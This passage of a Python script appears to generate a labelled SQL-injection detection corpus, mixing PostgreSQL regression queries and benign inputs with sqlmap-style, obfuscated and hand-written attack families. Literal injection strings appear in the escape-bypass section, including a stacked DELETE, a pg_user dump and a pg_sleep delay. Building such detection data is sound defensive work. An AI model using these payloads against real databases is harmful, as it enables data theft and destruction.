 ("window", "SELECT cume_dist() OVER (ORDER BY four) FROM tenk1 WHERE unique2 < 10"), ("window", "SELECT nth_value(ten, 2) OVER (ORDER BY ten ROWS BETWEEN UNBOUNDED PRECEDING AND UNBOUNDED FOLLOWING) FROM tenk1 LIMIT 3"),
 ("window", "SELECT sum(four) OVER (ORDER BY four GROUPS BETWEEN 1 PRECEDING AND 1 FOLLOWING EXCLUDE TIES) FROM tenk1 WHERE unique1 < 10"),
 ("with", "WITH RECURSIVE fib(a, b) AS (VALUES (0, 1) UNION ALL SELECT b, a + b FROM fib WHERE b < 100) SELECT a FROM fib"),
 ("with", "WITH t AS (INSERT INTO y SELECT generate_series(11, 20) RETURNING *) SELECT count(*) FROM t"), ("with", "WITH x AS MATERIALIZED (SELECT * FROM tenk1) SELECT count(*) FROM x"),
 ("with", "with recursive t(n) as (select 1 union all select n + 1 from t where n < 5) cycle n set is_cycle using path select * from t"),
 ("groupingsets", "select a, b, sum(v) from gstest1 group by rollup (a, b)"), ("groupingsets", "select a, b, grouping(a, b) from gstest2 group by cube (a, b) order by 1, 2"),
 ("groupingsets", "select a, b, count(*) from gstest3 group by grouping sets ((a), (b), ())"),
 ("limit", "SELECT * FROM onek ORDER BY unique1 OFFSET 990 LIMIT 5"), ("limit", "SELECT thousand FROM onek WHERE thousand < 5 ORDER BY thousand FETCH FIRST 1 ROW WITH TIES"),
 ("returning", "INSERT INTO foo (f2,f3) VALUES ('test', DEFAULT), ('More', 11) RETURNING *, f1+f3 AS sum"), ("returning", "DELETE FROM foo WHERE f1 > 2 RETURNING f3, f2, f1, least(f1,f3)"),
 ("tablesample", "SELECT count(*) FROM test_tablesample TABLESAMPLE SYSTEM (50) REPEATABLE (0)"), ("tablesample", "SELECT id FROM test_tablesample TABLESAMPLE BERNOULLI (5.5) REPEATABLE (0)"),
 ("foreign_key", "CREATE TABLE FKTABLE9 ( ftest1 int REFERENCES PKTABLE MATCH FULL ON DELETE CASCADE ON UPDATE CASCADE, ftest2 int )"),
 ("foreign_key", "ALTER TABLE FKTABLE9 ADD CONSTRAINT fk9 FOREIGN KEY (ftest1) REFERENCES pktable NOT VALID"),
 ("constraints", "CREATE TABLE UNIQUE_TBL9 (i int UNIQUE NULLS NOT DISTINCT, t text)"), ("constraints", "ALTER TABLE unique_tbl ADD CONSTRAINT unique_tbl_i9 UNIQUE (i) DEFERRABLE INITIALLY DEFERRED"),
 ("constraints", "SET CONSTRAINTS ALL DEFERRED"), ("domain", "create domain dnotnull9 varchar(15) NOT NULL"), ("domain", "alter domain dnotnull9 drop not null"),
 ("domain", "select cast('1.25' as domainnumeric)"), ("identity", "CREATE TABLE itest9 (a int generated always as identity, b text)"),
 ("identity", "INSERT INTO itest9 OVERRIDING SYSTEM VALUE VALUES (10, 'xyz')"), ("identity", "ALTER TABLE itest9 ALTER COLUMN a RESTART WITH 100"),
 ("generated", "CREATE TABLE gtest9 (a int PRIMARY KEY, b int GENERATED ALWAYS AS (a * 2) STORED)"), ("sequence", "CREATE SEQUENCE sequence_test9 INCREMENT BY -1 MINVALUE -100 MAXVALUE 0"),
 ("sequence", "SELECT nextval('sequence_test9'::regclass), currval('sequence_test9')"), ("sequence", "ALTER SEQUENCE IF EXISTS sequence_test9 CYCLE"),
 ("collate", "SELECT a, b FROM collate_test1 ORDER BY b COLLATE \"C\""), ("collate", "SELECT 'bbc' COLLATE \"C\" > 'Abc' COLLATE \"C\" AS \"true\""),
 ("privileges", "CREATE USER regress_priv_user9"), ("privileges", "GRANT SELECT, INSERT ON atest1 TO regress_priv_user9 WITH GRANT OPTION"),
 ("privileges", "ALTER DEFAULT PRIVILEGES IN SCHEMA testns GRANT SELECT ON TABLES TO public"), ("privileges", "SELECT has_column_privilege('atest5', 'one', 'SELECT')"),
 ("privileges", "REVOKE ALL PRIVILEGES ON FUNCTION priv_testfunc1(int) FROM PUBLIC"), ("privileges", "DROP USER regress_priv_user9"),
 ("rowsecurity", "CREATE POLICY p9 ON document FOR SELECT USING (dauthor = current_user)"), ("rowsecurity", "ALTER POLICY p9 ON document USING (true)"),
 ("rowsecurity", "SET SESSION AUTHORIZATION regress_rls_bob"), ("rowsecurity", "RESET SESSION AUTHORIZATION"),
 ("matview", "CREATE MATERIALIZED VIEW mvtest_tv9 AS SELECT type, sum(amt) AS totamt FROM mvtest_t GROUP BY type"), ("matview", "REFRESH MATERIALIZED VIEW mvtest_tv9 WITH NO DATA"),
 ("plpgsql", "create function plpgsql9_sum(int, int) returns int as $$ begin return $1 + $2; end $$ language plpgsql"),
 ("plpgsql", "do $$ declare x int := 42; begin raise notice 'x = %', x; end $$"),
 ("plpgsql", "create or replace function trap_zero9() returns int as $$ begin return 1/0; exception when division_by_zero then return -1; end $$ language plpgsql"),
 ("create_function_sql", "CREATE FUNCTION functest_A_9(text, date) RETURNS bool LANGUAGE 'sql' AS 'SELECT $1 = ''abcd'' AND $2 > ''2001-01-01'''"),
 ("create_function_sql", "CREATE FUNCTION functest_B_9(int) RETURNS bool LANGUAGE 'sql' IMMUTABLE AS 'SELECT $1 > 0'"),
 ("create_procedure", "CREATE PROCEDURE ptest9(x text) LANGUAGE SQL AS $$ INSERT INTO cp_test VALUES (1, x); $$"), ("create_procedure", "CALL ptest9('b')"),
 ("triggers", "CREATE TRIGGER t9 AFTER INSERT ON main_table FOR EACH STATEMENT EXECUTE PROCEDURE trigger_func('after_ins_stmt')"),
 ("triggers", "ALTER TABLE main_table DISABLE TRIGGER t9"), ("rules", "CREATE RULE rtest9_del AS ON DELETE TO rtest_t1 DO INSTEAD NOTHING"),
 ("rules", "SELECT definition FROM pg_rules WHERE tablename = 'rtest_t1' ORDER BY rulename"),
 ("copy", "copy copytest3 from stdin csv header"), ("copy", "COPY (SELECT 1 AS a) TO STDOUT (FORMAT csv, HEADER)"), ("copy2", "COPY x (a, b, c, d, e) from stdin (delimiter ',', null 'x')"),
 ("transactions", "BEGIN"), ("transactions", "SELECT * FROM xacttest"), ("transactions", "ABORT"), ("transactions", "SET TRANSACTION ISOLATION LEVEL REPEATABLE READ"),
 ("transactions", "ROLLBACK TO SAVEPOINT one"), ("transactions", "COMMIT AND CHAIN"), ("portals", "DECLARE foo9 CURSOR WITH HOLD FOR SELECT * FROM tenk1 ORDER BY unique2"),
 ("portals", "FETCH 2 in foo9"), ("portals", "MOVE ABSOLUTE 5 IN foo9"), ("portals", "CLOSE foo9"),
 ("prepare", "PREPARE q9(text, int, float, boolean, smallint) AS SELECT * FROM tenk1 WHERE string4 = $1 AND (four = $2 OR ten = $3::bigint OR true = $4 OR odd = $5::int) ORDER BY unique1"),
 ("prepare", "EXECUTE q9('AAAAxx', 5::smallint, 10.5::float, false, 4::bigint)"), ("prepare", "DEALLOCATE q9"),
 ("stats_ext", "CREATE STATISTICS ab9_stats (ndistinct, dependencies) ON a, b FROM ab1"), ("stats_ext", "ALTER STATISTICS ab9_stats SET STATISTICS 0"),
 ("vacuum", "VACUUM (INDEX_CLEANUP FALSE) vaccluster"), ("vacuum", "VACUUM (SKIP_LOCKED, ANALYZE) vactst"), ("vacuum", "ANALYZE vaccluster (i)"),
 ("guc", "SET datestyle = 'Postgres, MDY'"), ("guc", "SHOW datestyle"), ("guc", "SET SESSION datestyle = 'ISO, YMD'"), ("guc", "RESET datestyle"),
 ("guc", "SELECT current_setting('nosuch.setting', true)"), ("guc", "SET search_path TO 'public', pg_catalog"), ("guc", "DISCARD TEMP"),
 ("misc_functions", "SELECT num_nonnulls(1, 2, NULL::text, NULL::point, '', int8 '9', 1.0 / NULL)"), ("misc_functions", "SELECT pg_typeof(1), pg_typeof('a'::text), pg_typeof(now())"),
 ("misc_functions", "SELECT pg_column_compression(f1) FROM cmdata9"),
 ("sysviews", "select count(*) >= 0 as ok from pg_prepared_xacts"), ("sysviews", "select count(*) > 0 as ok from pg_timezone_names"),
 ("type_sanity", "SELECT t1.oid, t1.typname FROM pg_type as t1 WHERE t1.typtype not in ('b', 'c', 'd', 'e', 'm', 'p', 'r')"),
 ("opr_sanity", "SELECT p1.oid, p1.oprname FROM pg_operator as p1 WHERE (p1.oprkind != 'b' AND p1.oprkind != 'l') OR p1.oprresult = 0"),
 ("regex", "select regexp_match('abc01234xyz', '(?:(.*?)(\\d+)(.*)){1,1}')"), ("regex", "select 'abc' ~ '^(?!a)' AS f"), ("regex", "select regexp_split_to_array('the quick brown fox', '\\s+')"),
 ("regex", "select substring('abcdefg' from 'b(.*)f')"), ("regex", "select regexp_count('ABCABCAXYaxy', 'A.')"),
 ("expressions", "SELECT now()::timestamp::text = localtimestamp::text"), ("expressions", "select 1 between 0 and 2 as t, 1 not between symmetric 2 and 0 as f"),
 ("random", "SELECT random() BETWEEN 0 AND 1"), ("random", "SELECT setseed(0.5)"), ("tidscan", "SELECT ctid, * FROM tidscan WHERE '(0,1)'::tid = ctid"),
 ("brin", "CREATE INDEX brinidx9 ON brintest USING brin (int4col) WITH (pages_per_range = 4)"), ("gin", "create index gin_test_idx9 on gin_test_tbl using gin (i) with (fastupdate = on)"),
 ("gist", "create index gist_pointidx9 on gist_point_tbl using gist(p) include(id)"), ("spgist", "create index spgist_point_idx9 on spgist_point_tbl using spgist(p) with (fillfactor = 75)"),
 ("namespace", "CREATE SCHEMA test_ns_schema_9 CREATE TABLE abc (a serial, b int UNIQUE)"), ("namespace", "DROP SCHEMA test_ns_schema_9 CASCADE"),
 ("temp", "CREATE TEMP TABLE temptest9(col int) ON COMMIT DELETE ROWS"), ("temp", "CREATE TEMP TABLE temptest9b(col) ON COMMIT DROP AS SELECT 1"),
 ("truncate", "TRUNCATE ONLY trunc_f9"), ("truncate", "TRUNCATE trunc_c9, trunc_d9 CONTINUE IDENTITY"),
 ("errors", "select nonesuchfield from nonesuchtable"), ("errors", "alter table nonesuch rename to newnonesuch"), ("errors", "select 1/0::float8"),
 ("errors", "create aggregate newavg9 (sfunc = int4pl, basetype = int4, stype = int4)"), ("errors", "drop table nonesuch9"),
 ("numerology", "SELECT 1_000 AS f"), ("numerology", "SELECT 1e10, 1e-5, .5, 5."), ("numerology", "SELECT -0.0::float8, 0.0 = -0.0"),
 ("comments", "SELECT 'trailing' AS first -- trailing comment, nothing else"), ("comments", "/* leading block */ SELECT 'leading' AS second"),
 ("comments", "SELECT /* embedded /* nested */ block */ 'nested' AS third"),
 ("amutils", "SELECT prop, pg_indexam_has_property(a.oid, prop) FROM pg_am a, unnest(array['can_order', 'can_unique', 'can_multi_col']) prop WHERE amname = 'btree'"),
 ("conversion", "SELECT convert_to('caf\u00e9', 'LATIN1')"), ("conversion", "SELECT convert_from('\\x636166c3a9'::bytea, 'UTF8')"),
 ("lock", "LOCK TABLE lock_tbl1 IN ROW EXCLUSIVE MODE NOWAIT"), ("lock", "LOCK lock_tbl1 IN SHARE UPDATE EXCLUSIVE MODE"),
 ("event_trigger", "create event trigger regress_event_trigger9 on ddl_command_start execute procedure test_event_trigger()"),
 ("event_trigger", "alter event trigger regress_event_trigger9 disable"), ("publication", "CREATE PUBLICATION testpub9 FOR TABLE testpub_tbl1 WITH (publish = 'insert')"),
 ("subscription", "SELECT count(*) FROM pg_subscription"),
 ("explain", "explain (costs off, verbose) select count(*) from tenk1 where unique1 < 100"), ("explain", "explain (summary on, costs off) select 1"),
 ("psql_crosstab", "SELECT v, EXTRACT(year FROM d), count(*) FROM ctv_data GROUP BY 1, 2 ORDER BY 1, 2"),
 ("select_views", "SELECT * FROM street WHERE name = 'Sixth Street'"), ("select_parallel", "set parallel_setup_cost=0"), ("select_parallel", "explain (costs off) select count(*) from a_star"),
 ("largeobject", "SELECT lo_creat(-1) > 0"), ("largeobject", "SELECT lo_unlink(loid) FROM lotest_stash_values"),
 ("hash_func", "SELECT hashint4(1), hashtext('abc')"), ("hash_func", "SELECT v, hashbpchar(v)::bit(32) FROM (VALUES ('abc'::bpchar)) x(v)"),
 ("tsrf", "SELECT generate_series(1, 3) AS g, generate_series(1, 2) AS h"), ("tsrf", "SELECT unnest(ARRAY[1, 2]), unnest(ARRAY['a', 'b', 'c'])"),
]


def regress_rows(r):
    out, add = regress_list("regress9", REGRESS_FIXED)
    for typ, vals in [("int2", ["'  -12  '", "'0x7fff'", "'100000'"]), ("int4", ["'+65535'", "'  123  '", "'1.5'"]), ("int8", ["'-9223372036854775807'", "'0o777'"]),
                      ("float4", ["'1.17549435e-38'", "'-Inf'"]), ("float8", ["'2.2250738585072014E-308'", "'  Infinity  '"]), ("numeric", ["'1e-1000'", "'+.5'", "' 12.3456 '"]),
                      ("date", ["'1999-01-08'", "'January 8, 1999'", "'1/8/1999'", "'19990108'", "'J2451187'"]), ("time", ["'04:05:06 PST'", "'040506'"]),
                      ("interval", ["'3 4:05:06'", "'P0001-02-03T04:05:06'", "'-1 year +1 day'"]), ("inet", ["'::ffff:1.2.3.4'", "'10.0.0.1/32'"]),
                      ("cidr", ["'192.168.100.128/25'", "'2001:4f8:3:ba::/64'"]), ("macaddr", ["'0800-2b01-0203'", "'08002b010203'"]), ("uuid", ["'{a0eebc99-9c0b4ef8-bb6d6bb9-bd380a11}'"]),
                      ("bytea", ["'\\xDEADBEEF'", "'\\\\000\\\\001'"]), ("jsonb", ["'{\"a\": [1, 2.5e3]}'", "'\"\\u00e9\"'"]), ("tsquery", ["'fat & (rat | cat)'", "'!supernovae'"]),
                      ("point", ["'(1,2)'", "'  ( 3.5 , -2 ) '"]), ("box", ["'(2.0,2.0,0.0,0.0)'"]), ("int4range", ["'[1,10)'", "'empty'"]), ("money", ["'$5.99'", "'-$0.01'"])]:
        for v in vals:
            add(typ, "SELECT %s::%s" % (v, typ))
            if r.random() < 0.5:
                add(typ, "SELECT * FROM pg_input_error_info(%s, '%s')" % (v, typ))
    for _ in range(25):
        a, b = r.randint(-30000, 30000), r.randint(1, 500)
        t = r.choice(["int2", "int4", "int8", "numeric", "float8"])
        add(t, "SELECT %s '%d' %s %s '%d' AS result" % (t, a, r.choice(["+", "-", "*", "/", "%", "<", ">=", "<>"]), t, b))
    for _ in range(15):
        s = r.choice(["regression", "PostgreSQL 9", "äöü ÄÖÜ", "the quick brown fox", "x"])
        add("strings", r.choice(["SELECT substring('%s' from %d for %d)" % (s, r.randint(1, 5), r.randint(0, 5)), "SELECT rpad('%s', %d, '+-')" % (s, r.randint(1, 25)),
                                 "SELECT upper('%s'), lower('%s')" % (s, s), "SELECT split_part('%s', ' ', %d)" % (s, r.randint(-2, 3)),
                                 "SELECT length('%s'), octet_length('%s'), bit_length('%s')" % (s, s, s)]))
    for _ in range(15):
        add("date", r.choice(["SELECT date '%s' + %d" % (rdate(r), r.randint(-400, 400)), "SELECT EXTRACT(%s FROM TIMESTAMP '%s 10:20:30')" % (r.choice(["ISODOW", "JULIAN", "MILLISECONDS", "HOUR", "CENTURY"]), rdate(r)),
                              "SELECT to_char(timestamp '%s 23:05:00', '%s')" % (rdate(r), r.choice(["HH24:MI:SS", "YYYY \"week\" IW", "FMDay, DDth FMMonth", "Y,YYY"])),
                              "SELECT date_bin('%d minutes', timestamp '%s 10:17:00', timestamp '2001-01-01')" % (r.choice([5, 15, 30]), rdate(r))]))
    for _ in range(12):
        add("tenk1", "SELECT unique1, unique2, stringu1 FROM tenk1 WHERE %s ORDER BY unique1 LIMIT %d" % (r.choice(["four = %d" % r.randint(0, 3), "hundred = %d" % r.randint(0, 99), "unique2 < %d" % r.randint(5, 100), "odd = %d AND even = %d" % (r.randint(0, 99), r.randint(1, 100))]), r.randint(1, 10)))
    for _ in range(10):
        add("arrays", r.choice(["SELECT array_length(ARRAY[%s], 1)" % ",".join(str(r.randint(0, 9)) for _ in range(r.randint(1, 6))),
                                "SELECT ARRAY[%d,%d] && ARRAY[%d,%d]" % tuple(r.randint(1, 9) for _ in range(4)),
                                "SELECT (ARRAY[%s])[%d]" % (",".join(str(r.randint(0, 99)) for _ in range(5)), r.randint(0, 6))]))
    for _ in range(10):
        add("numeric", "SELECT round(%d.%04d::numeric, %d), trunc(%d.%04d::numeric, %d)" % (r.randint(-999, 999), r.randint(0, 9999), r.randint(-2, 3), r.randint(-999, 999), r.randint(0, 9999), r.randint(-2, 3)))
    for _ in range(8):
        add("generate_series", "SELECT * FROM generate_series(timestamp '%s', timestamp '%s', '%d hours')" % ((lambda d: (d + " 00:00", d + " 12:00"))(rdate(r)) + (r.choice([2, 3, 4, 6]),)))
    return out


# ---------------------------------------------------------------- obfuscation (tamper-style), applied outside literals and comments
def segments(s, typ):
    """Split what the user typed into (text, editable) pieces: literals, quoted
    names, dollar bodies and comments are not editable.  The input starts inside
    its slot's literal when the slot is a quoted one."""
    out, i, n = [], 0, len(s)
    if typ in STRING_TYPES:
        cl = CLOSER[typ]
        j = s.find(cl)
        if j < 0:
            return [(s, False)]
        out.append((s[:j + len(cl)], False))
        i = j + len(cl)
    buf = []
    while i < n:
        c = s[i]
        end = None
        if s.startswith("--", i):
            end = s.find("\n", i)
            end = n if end < 0 else end
        elif s.startswith("/*", i):
            end = s.find("*/", i + 2)
            end = n if end < 0 else end + 2
        elif c in "'\"":
            end = quoted_end(s, i + 1, c, False) or n
        elif c == "$":
            m = re.match(r"\$([A-Za-z_][A-Za-z0-9_]*)?\$", s[i:])
            if m:
                k = s.find(m.group(0), i + len(m.group(0)))
                end = n if k < 0 else k + len(m.group(0))
        if end is None:
            buf.append(c)
            i += 1
            continue
        if buf:
            out.append(("".join(buf), True))
            buf = []
        out.append((s[i:end], False))
        i = end
    if buf:
        out.append(("".join(buf), True))
    return out


def obfuscate(r, fam, s, typ):
    segs = segments(s, typ)
    res = []
    for idx, (t, editable) in enumerate(segs):
        if not editable:
            res.append(t)
            continue
        if fam == "obf_case_mix":
            t = re.sub(r"[A-Za-z_]+", lambda m: "".join(ch.upper() if r.random() < 0.5 else ch.lower() for ch in m.group(0)), t)
        elif fam == "obf_whitespace":
            t = re.sub(r" +", lambda m: r.choice(["\t", "\n", "\r\n", "\f", "  \t", "\n\t", "\r", "   "]), t)
        elif fam == "obf_inline_comment":
            t = re.sub(r" +", lambda m: r.choice(["/**/", "/**/", "/*%s*/" % rword(r, r.randint(1, 5)), "/* */", "/*!*/", "--%s\n" % rword(r, 3)]), t)
            if r.random() < 0.3:
                t = re.sub(r"\(", lambda m: r.choice(["(", "/**/(", "(/**/"]), t)
        elif fam == "obf_nospace":
            t = re.sub(r" *([=<>!|,()+*;]) *", r"\1", t)
            if idx > 0 or typ in STRING_TYPES:
                t = t.lstrip(" ")
            if idx + 1 < len(segs):
                t = t.rstrip(" ")
        res.append(t)
    return "".join(res)


# ---------------------------------------------------------------- assembly
# this corpus's own input mix (the attack mix is corpus_kit.ATTACK_TARGET)
INPUT_TARGET = {"input_numeric": 160, "input_formatted": 150, "input_plain": 76, "input_unicode": 35, "input_long_text": 34,
    "input_punctuation": 28, "input_apostrophe_names": 25, "input_sql_words": 23, "input_json_text": 22, "input_whitespace": 21,
    "input_url_email": 20, "input_numeric_string": 18, "input_identifier": 8}
MODE_KIND = {"cond": "cond", "stack": "stack", "union": "union", "repl": "repl", "concat": "concat"}


def main():
    rng = random.Random(SEED)
    corpus = SlotCorpus(rng, load_earlier(HERE, EARLIER), T, CLOSER, render, ref_skeletons, slot_info,
                        lambda tpl, slot, val: not (tpl[2][slot][0] == "d" and TAG in val))
    pairs, attack, benign = corpus.pairs, corpus.attack, corpus.benign

    def orig_for(si, orig):
        return "'" + orig.replace("'", "''") + "'" if si["type"] in STRING_TYPES else orig

    string_payloads = corpus.payloads      # (payload, variant) for escaped rows

    # --- sqlmap techniques
    for fam in ["sqlmap_time_blind", "sqlmap_boolean_blind", "sqlmap_error_based", "sqlmap_stacked_queries", "sqlmap_inline_query", "sqlmap_union_query"]:
        got = tries = 0
        while got < ATTACK_TARGET[fam] and tries < 50000:
            tries += 1
            tpl, slot = rng.choice(pairs)
            si = slot_info(tpl, slot)
            orig = rng.choice(si["orig"])
            if fam == "sqlmap_union_query":
                title, dbms, P = union_payload(rng)
                kind, need, mode = "union", True, "payload"
            else:
                vector = rng.random() < 0.4
                cands = [t for t in sqlmap_techniques(rng, vector) if t[2] == fam]
                title, dbms, _, kind, P, need, mode = rng.choice(cands)
            P = P.replace("%ORIG%", orig_for(si, orig))
            pl = wrap(rng, si, orig, kind, P, need, dbms == "MySQL")
            if pl is None:
                continue
            if attack(tpl, slot, pl, fam, "sqlmap:%s:%s" % (title, mode), dbms):
                got += 1
                string_payloads.append((pl, "sqlmap:%s" % title))

    # --- hand-written PostgreSQL techniques
    def hand_payload(fam_of_core, si, orig):
        name, mode, core = rng.choice(hand_cores(rng)[fam_of_core])
        kind = MODE_KIND[mode]
        P = core
        if mode == "stack":
            P = rng.choice([";", "; ", ";\n", "; "]) + core
        if si["type"] in ("col", "dir") and mode == "cond":
            P = ", (CASE WHEN (%s) THEN 1 ELSE 0 END)" % re.sub(r"^(AND|OR)\s+", "", core)
            kind = "order"
        return name, wrap(rng, si, orig, kind, P, False, careful=True)

    hand = ["tautology", "stacked", "oob_file_program", "time_pg_sleep", "boolean_blind", "error_cast", "dollar_quote", "e_escape",
            "plpgsql_do_exec", "union", "string_concat_subquery"]
    for fam in hand:
        got = tries = 0
        while got < ATTACK_TARGET[fam] and tries < 50000:
            tries += 1
            tpl, slot = rng.choice(pairs)
            si = slot_info(tpl, slot)
            name, pl = hand_payload(fam, si, rng.choice(si["orig"]))
            if pl is None:
                continue
            if attack(tpl, slot, pl, fam, "%s:%s" % (fam, name)):
                got += 1
                string_payloads.append((pl, "%s:%s" % (fam, name)))
    # dollar-quote breakouts of the $note$ slot count as dollar_quote too: they are part of the draw above
    # --- obfuscated variants
    for fam in OBF_FAMILIES:
        got = tries = 0
        while got < ATTACK_TARGET[fam] and tries < 50000:
            tries += 1
            tpl, slot = rng.choice(pairs)
            si = slot_info(tpl, slot)
            orig = rng.choice(si["orig"])
            if rng.random() < 0.7:
                base = rng.choice(["tautology", "stacked", "union", "time_pg_sleep", "boolean_blind", "error_cast", "oob_file_program"])
                name, pl = hand_payload(base, si, orig)
                var = "%s:%s:%s" % (fam, base, name)
            else:
                cands = [t for t in sqlmap_techniques(rng, False) if t[1] in ("PostgreSQL", "generic") and t[3] in ("cond", "cond-neg", "stack", "order")]
                title, dbms, _, kind, P, need, mode = rng.choice(cands)
                P = P.replace("%ORIG%", orig_for(si, orig))
                pl = wrap(rng, si, orig, kind, P, need)
                var = "%s:sqlmap:%s" % (fam, title)
            if pl is None:
                continue
            pl2 = obfuscate(rng, fam, pl, si["type"])
            if pl2 == pl:
                continue
            if attack(tpl, slot, pl2, fam, var):
                got += 1
    # --- comment truncation: close the slot and comment out the rest of the statement
    got = tries = 0
    while got < ATTACK_TARGET["comment_truncation"] and tries < 50000:
        tries += 1
        tpl, slot = rng.choice(pairs)
        si = slot_info(tpl, slot)
        if not si["tail_means"]:
            continue
        typ = si["type"]
        orig = rng.choice(si["orig"] + (["admin", "", "x"] if typ in ("q", "e") else []))
        style, c = rng.choice([("dashdash", "--"), ("dashdash_space", "-- "), ("dashdash_text", "-- " + rword(rng, 3)), ("dashdash_dash", "-- -"),
                               ("block_open", "/*"), ("semicolon_dash", ";--"), ("dashdash_plus", "--+")])
        if typ in STRING_TYPES:
            k = si["depth"] if rng.random() < 0.9 else 0
            pl = orig + CLOSER[typ] + ")" * k + rng.choice(["", " "]) + c
        elif typ in ("n", "list", "bool"):
            pl = orig + (")" * si["depth"] if si["depth"] and rng.random() < 0.5 else "") + rng.choice(["", " "]) + c
        else:
            pl = orig + rng.choice(["", " "]) + c
        if attack(tpl, slot, pl, "comment_truncation", "comment_truncation:%s" % style, need_tail=True):
            got += 1
            string_payloads.append((pl, "comment_truncation:%s" % style))
    # --- escape bypass: the application escapes quotes the wrong way
    corpus.escape_bypass([("e_string_quote_doubling", "n9_translation_job", "c", "\\'); DELETE FROM translation_jobs;--", double_quotes),
                          ("e_string_quote_doubling", "n9_glossary_note", "a", "\\' || (SELECT string_agg(usename, ',') FROM pg_user) || \\'", double_quotes),
                          ("e_string_quote_doubling", "n9_glossary_note", "a", "x\\', reviewed_at = now() WHERE 1=1;--", double_quotes),
                          ("std_string_backslash_quote", "n9_glossary_term", "c", "invoice' OR 'a'='a", backslash_quotes),
                          ("std_string_backslash_quote", "n9_fare_taps", "a", "x' OR pg_sleep(5) IS NULL--", backslash_quotes),
                          ("std_string_backslash_quote", "n9_candidate_stage", "a", "offer' WHERE 1=1;--", backslash_quotes)])

    # ---------------- benign
    str_pairs = [(t, k) for t, k in pairs if t[2][k][0] in STRING_TYPES]
    num_pairs = [(t, k) for t, k in pairs if t[2][k][0] in ("n", "list")]
    id_pairs = [(t, k) for t, k in pairs if t[2][k][0] in ("col", "dir", "ident")]

    for fam, target in INPUT_TARGET.items():
        got = tries = 0
        while got < target and tries < 50000:
            tries += 1
            if fam == "input_numeric":
                tpl, slot = rng.choice(num_pairs)
                if tpl[2][slot][0] == "list":
                    val = ", ".join(str(rng.randint(1, 9999)) for _ in range(rng.randint(1, 7)))
                else:
                    val = rng.choice([str(rng.randint(0, 99999)), str(rng.randint(1, 60)), "%d.%d" % (rng.randint(0, 999), rng.randint(0, 99)),
                                      "-%d" % rng.randint(1, 500), "%.4f" % rng.uniform(-90, 90), str(rng.randint(10 ** 6, 10 ** 10))])
            elif fam == "input_identifier":
                tpl, slot = rng.choice(id_pairs)
                typ = tpl[2][slot][0]
                val = rng.choice(tpl[2][slot][1] + (CANON[typ] if typ != "ident" else []))
            else:
                tpl, slot = rng.choice(str_pairs)
                typ = tpl[2][slot][0]
                if typ == "qi" and fam not in ("input_plain", "input_formatted", "input_unicode", "input_apostrophe_names", "input_sql_words"):
                    continue
                if fam == "input_long_text":
                    val = " ".join(rng.sample(SENTS, rng.randint(2, 5)))
                elif fam == "input_formatted" and rng.random() < 0.5:
                    val = rng.choice([rdate(rng), "%s-%05d" % (rword(rng, 3, upper=True), rng.randint(0, 99999)), "%08x-%04x-4%03x" % (rng.getrandbits(32), rng.getrandbits(16), rng.getrandbits(12)),
                                      "%02d:%02d" % (rng.randint(0, 23), rng.randint(0, 59)), "+353 8%d %03d %04d" % (rng.randint(3, 9), rng.randint(0, 999), rng.randint(0, 9999)),
                                      "%040x" % rng.getrandbits(160), "%s%d %d%s" % (rword(rng, 2, upper=True), rng.randint(1, 20), rng.randint(1, 9), rword(rng, 2, upper=True))])
                elif fam == "input_plain" and rng.random() < 0.6:
                    val = rng.choice(POOLS["input_plain"]).split()[0] + " " + rng.choice(POOLS["input_plain"]).split()[-1]
                else:
                    val = rng.choice(POOLS[fam])
            if benign(tpl, slot, val, fam, "benign:" + fam[6:]):
                got += 1
    corpus.escaped(str_pairs, tries=50000)
    corpus.complex(complex_gens(), COMPLEX_TARGET, tries=5000, prefix=4)
    corpus.regress(regress_rows(rng))
    corpus.write(HERE, "n9-%06d", "ninth", INPUT_TARGET, COMPLEX_TARGET)


if __name__ == "__main__":
    main()
